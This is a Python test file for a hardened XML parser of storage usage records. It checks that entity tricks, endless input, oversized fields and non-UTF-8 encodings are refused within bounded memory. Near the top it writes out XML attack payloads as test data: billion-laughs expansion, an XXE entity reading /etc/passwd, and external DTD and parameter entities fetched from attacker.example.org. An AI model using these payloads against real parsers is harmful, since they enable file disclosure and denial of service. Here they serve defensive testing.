# SPDX-License-Identifier: Apache-2.0
"""Attacks on the reading of XML: each is refused at once, or read as what it is, in bounded memory."""

import itertools
import tracemalloc
from collections.abc import Iterator

import pytest

from ssm.errors import FormatError
from ssm.records.fault import Fault, Level
from ssm.records.formats import recognise
from ssm.records.formats.safe_xml import MAX_DEPTH, MAX_ELEMENTS, MAX_STRAYS, MAX_TEXT, SafeParser
from ssm.records.message import MAX_RECORD_OCTETS
from tests.xml_messages import STAR_NAMESPACES, as_shipped, by_parser, star_document, storage

ROOT = f"<StorageUsageRecords {STAR_NAMESPACES}>".encode()
RECORD = b"<StorageUsageRecord>"
BLOCK = 64 * 1024
MEMORY = 24 * 1024 * 1024


class Counted:
    """A message without an end, and how much of it was asked for."""

    def __init__(self, begin: bytes, again: bytes) -> None:
        self.begin = begin
        self.again = again * (BLOCK // len(again) + 1)
        self.octets = 0

    def __iter__(self) -> Iterator[bytes]:
        for block in itertools.chain([self.begin], itertools.repeat(self.again, 100 * 16)):
            self.octets += len(block)
            yield block


def fault(data: bytes) -> Fault:
    """The error that a message has."""
    (found,) = [one for one in as_shipped(data).faults if one.level is Level.ERROR]
    return found


def read_all(blocks: Iterator[bytes]) -> None:
    form, again = recognise(blocks)
    for _ in form.read(again).batches:
        pass


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
)
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
QUADRATIC = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]>\n'
EXTERNAL = b'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://attacker.example.org/a.dtd">\n'
PARAMETER = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example.org/">%p;]>\n'


@pytest.mark.parametrize("prolog", [BILLION_LAUGHS, XXE, QUADRATIC, EXTERNAL, PARAMETER])
def test_a_doctype_is_refused_before_anything_in_it_counts(prolog: bytes) -> None:
    found = fault(prolog + star_document(storage(1, site="&c;&x;")))
    assert (found.code, found.line) == ("doctype", 2)
    assert found.message == "the document has a DOCTYPE, which usage records do not have"


@pytest.mark.parametrize(
    ("begin", "again", "said"),
    [
        (ROOT + RECORD, b"<a>", f"elements are nested deeper than {MAX_DEPTH}, or have over 32 attributes"),
        (ROOT + RECORD, b"<a/>", f"a record has more than {MAX_ELEMENTS} elements"),
        (ROOT + RECORD + b"<Site>", b"x", f"a text is longer than {MAX_TEXT} characters"),
        (ROOT + RECORD + b"<Site>", b"&#65;", f"a text is longer than {MAX_TEXT} characters"),
        (ROOT + RECORD + b"<Site><![CDATA[", b"x", f"a text is longer than {MAX_TEXT} characters"),
        (ROOT + RECORD + b'<Site a="', b"x", "a tag, comment or instruction is longer than 1048576 octets"),
        (ROOT + RECORD + b"<Site", b"x", "a tag, comment or instruction is longer than 1048576 octets"),
        (ROOT + RECORD + b"<!-- ", b"x", "a tag, comment or instruction is longer than 1048576 octets"),
        (ROOT + b"<!-- ", b"x", "a tag, comment or instruction is longer than 1048576 octets"),
        (ROOT + RECORD + b"<?pi ", b"x", "a tag, comment or instruction is longer than 1048576 octets"),
        (ROOT + RECORD, b"<!-- x -->", f"a record is longer than {MAX_RECORD_OCTETS} octets"),
        (ROOT + RECORD, b"<a>" + b"x" * 1000 + b"</a>", f"a record is longer than {MAX_RECORD_OCTETS} octets"),
        (ROOT, b"x", f"a text is longer than {MAX_TEXT} characters"),
    ],
)
def test_what_never_ends_is_refused_soon_and_in_little_memory(begin: bytes, again: bytes, said: str) -> None:
    blocks = Counted(begin, again)
    tracemalloc.start()
    try:
        with pytest.raises(FormatError) as caught:
            read_all(iter(blocks))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (caught.value.code, str(caught.value)) == ("too-large", said)
    assert blocks.octets < 4 * MAX_RECORD_OCTETS
    assert peak < MEMORY


@pytest.mark.parametrize("begin", [b"<", b"<!-- ", b"<?xml ", b'<a b="', b"<" + b"a" * 100])
def test_a_root_that_does_not_begin_is_not_waited_for(begin: bytes) -> None:
    blocks = Counted(begin, b"x")
    with pytest.raises(FormatError) as caught:
        read_all(iter(blocks))
    assert (caught.value.code, caught.value.line) == ("truncated-xml", 1)
    assert blocks.octets < MAX_RECORD_OCTETS


def test_comments_without_end_between_records_take_no_memory() -> None:
    blocks = Counted(ROOT + storage(1).encode(), b"<!-- x -->")
    tracemalloc.start()
    try:
        with pytest.raises(FormatError, match="the document ends before its root element does"):
            read_all(iter(blocks))
        assert tracemalloc.get_traced_memory()[1] < MEMORY
    finally:
        tracemalloc.stop()
    assert blocks.octets > 100 * 1024 * 1024


def test_a_crowd_of_instructions_before_the_root_is_refused() -> None:
    found = fault(b"<?a?>" * 10_000 + star_document(storage(1)))
    assert (found.code, found.message) == ("too-large", "more than 100 tags stand before the root element")


@pytest.mark.parametrize("count", [33, 100_000])
def test_a_crowd_of_attributes_is_refused(count: int) -> None:
    attributes = " ".join(f"a{number}='1'" for number in range(count))
    found = fault(star_document(storage(1), storage(2, inner=f"<StorageShare {attributes}>x</StorageShare>")))
    assert found.code in {"too-large", "truncated-xml"}


def test_a_crowd_of_namespaces_is_read_or_refused() -> None:
    declared = " ".join(f"xmlns:a{number}='urn:{number}'" for number in range(1000))
    found = as_shipped(star_document(storage(1, inner=f"<StorageShare {declared}>x</StorageShare>"), storage(2)))
    assert (len(found.records), found.faults) == (2, [])


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-16", "windows-1252", "x" * 40])
def test_another_encoding_than_utf_8_is_refused(encoding: str) -> None:
    found = fault(f'<?xml version="1.0" encoding="{encoding}"?>\n'.encode() + star_document(storage(1)))
    assert (found.code, found.line) == ("not-utf8", 1)
    assert found.message == f"the document declares the encoding {encoding!r}; it must be UTF-8"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_document_in_utf_16_is_told_so(codec: str) -> None:
    found = as_shipped(star_document(storage(1)).decode().encode(codec))
    assert found.records == []
    # With a byte-order mark of another encoding it does not even begin like XML.
    assert [one.code for one in found.faults] == ["not-utf8" if codec == "utf-16-le" else "unknown-header"]
    assert "UTF-8" in found.faults[0].message


def test_octets_that_are_not_utf_8_have_their_line() -> None:
    data = star_document(storage(1), storage(2), storage(3, site="M\u00fcnchen")).decode().encode("latin-1")
    found = fault(data)
    assert (found.code, found.line) == ("not-well-formed", 4)
    assert found.message == (
        "the document is not well-formed XML: not well-formed (invalid token), or octets that are not UTF-8"
    )


@pytest.mark.parametrize("size", [1000, 65535, 65536, 65537, 10**6])
@pytest.mark.parametrize("length", [MAX_TEXT - 1, MAX_TEXT, MAX_TEXT + 1, MAX_TEXT + BLOCK])
def test_the_longest_text_does_not_depend_on_portions(length: int, size: int) -> None:
    data = star_document(storage(1), storage(2, inner=f"<StorageShare>{'x' * length}</StorageShare>"))
    codes = {one.code for one in as_shipped(data, [size]).faults}
    assert codes == ({"too-long"} if length <= MAX_TEXT else {"too-large"})


@pytest.mark.parametrize("size", [1000, 65536, 10**7])
@pytest.mark.parametrize("more", [0, 1])
def test_the_most_elements_do_not_depend_on_portions(more: int, size: int) -> None:
    crowd = "<StorageShare>a</StorageShare>" + "<b/>" * (MAX_ELEMENTS - 8 + more)
    data = star_document(storage(1, inner=crowd))
    assert ("too-large" in {one.code for one in as_shipped(data, [size]).faults}) is bool(more)


@pytest.mark.parametrize("size", [1000, 65536, 10**7])
def test_the_longest_record_does_not_depend_on_portions(size: int) -> None:
    whole = len(storage(1).partition("</StorageUsageRecord>")[0])
    crowd = "<!--" + "x" * 993 + "-->"
    for more in (0, 1):
        room = MAX_RECORD_OCTETS - whole + more
        inner = crowd * (room // 1000 - 1)
        data = star_document(storage(1, inner=inner + "<!--" + "x" * (room - len(inner) - 7) + "-->"))
        assert ("too-large" in {one.code for one in as_shipped(data, [size]).faults}) is bool(more)


def test_a_record_that_the_parser_would_refuse_for_its_length_does_not_pass_by_a_look() -> None:
    long = "x" * (MAX_TEXT + 1)
    pretty = [storage(number, inner="<StorageClass>a</StorageClass>") for number in (1, 2)]
    data = star_document(*pretty, storage(3, inner=f"<StorageClass>{long}</StorageClass>"))
    assert as_shipped(data).faults == by_parser(data).faults != []


def test_values_in_cdata_and_references_are_read() -> None:
    data = star_document(storage(1), storage(2, site="<![CDATA[A&B]]>"), storage(3, site="A&amp;&#66;"))
    assert [getattr(one, "site", None) for one in as_shipped(data).records] == ["EXAMPLE-T2", "A&B", "A&B"]


def test_a_text_between_elements_is_told() -> None:
    found = as_shipped(star_document("one", storage(1), storage(2, inner="two"), storage(3), "three"))
    told = [(one.level, one.code, one.line, one.message) for one in found.faults]
    words = "stands between elements, where a text means nothing"
    assert sorted(told, key=lambda one: one[2] or 0) == [
        (Level.WARNING, "stray-text", 2, f"'one' {words}"),
        (Level.WARNING, "stray-text", 3, f"'two' {words}"),
        (Level.WARNING, "stray-text", 5, f"'three' {words}"),
    ]
    assert len(found.records) == 3


def test_only_so_many_texts_between_elements_are_told() -> None:
    crowd = "x<!-- -->\n" * 3 + "".join(f"{number}<SubjectIdentity/>" for number in range(2 * MAX_STRAYS))
    found = as_shipped(star_document(storage(1, inner=crowd)))
    assert [one.code for one in found.faults] == ["stray-text"] * MAX_STRAYS
    assert len(found.records) == 1


def test_a_parser_gives_each_record_as_soon_as_it_is_whole() -> None:
    parser = SafeParser(lambda _: True)
    parser.feed(b"<r><a><b>1</b></a><a>", 1)
    assert [[(one.name, one.text, one.depth) for one in record] for record in parser.ready] == [
        [("a", "", 2), ("b", "1", 3)]
    ]
